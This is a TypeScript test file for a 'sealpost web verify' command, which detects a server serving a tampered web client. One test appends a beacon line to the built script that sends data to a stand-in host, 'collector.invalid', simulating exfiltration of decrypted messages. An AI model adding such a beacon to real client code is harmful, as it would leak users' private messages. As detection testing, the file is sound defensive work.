// Attack: the operator serves a changed web client (one line added to the app's script, enough to send every
// message it decrypts elsewhere). `sealpost web verify` compares the hashes the server lists with a local build of
// the same version and refuses with WEB_APP_MISMATCH, naming the file; the honest build passes. And a server that
// lies in its manifest instead is caught by the hashes of what it actually serves (checked in the e2e test).
import { execFile } from 'node:child_process';
import { appendFileSync, cpSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterEach, expect, it } from 'vitest';
import { WEB_DIST, startTestServer, tempDir, type TestServer } from '../helpers.js';

const bin = fileURLToPath(new URL('../../packages/cli/bin/sealpost.js', import.meta.url));
let server: TestServer | undefined;
afterEach(async () => {
  await server?.close();
});

function verify(url: string): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    execFile(process.execPath, [bin, 'web', 'verify', '--server', url], { timeout: 60_000 }, (err, stdout, stderr) => {
      resolve({ code: err ? Number((err as { code?: number }).code ?? 1) : 0, stdout, stderr });
    });
  });
}

it('refuses a server that serves a changed web client', async () => {
  const swapped = join(tempDir('swapped-web'), 'dist');
  cpSync(WEB_DIST, swapped, { recursive: true });
  const main = readdirSync(join(swapped, 'assets')).find((f) => /^index-.*\.js$/.test(f))!;
  appendFileSync(join(swapped, 'assets', main), '\n;navigator.sendBeacon("https://collector.invalid/", "…");\n');
  server = await startTestServer({ web: swapped });
  const r = await verify(server.url);
  expect(r.code).toBe(1);
  expect(r.stderr).toContain('[WEB_APP_MISMATCH]');
  expect(r.stderr).toContain(`/assets/${main}: different content`);
});

it('accepts the server that serves the build of this version', async () => {
  server = await startTestServer({ web: true });
  const r = await verify(server.url);
  expect(r.code, r.stderr).toBe(0);
  expect(r.stdout).toMatch(/serves the same web client as the local build/);
});
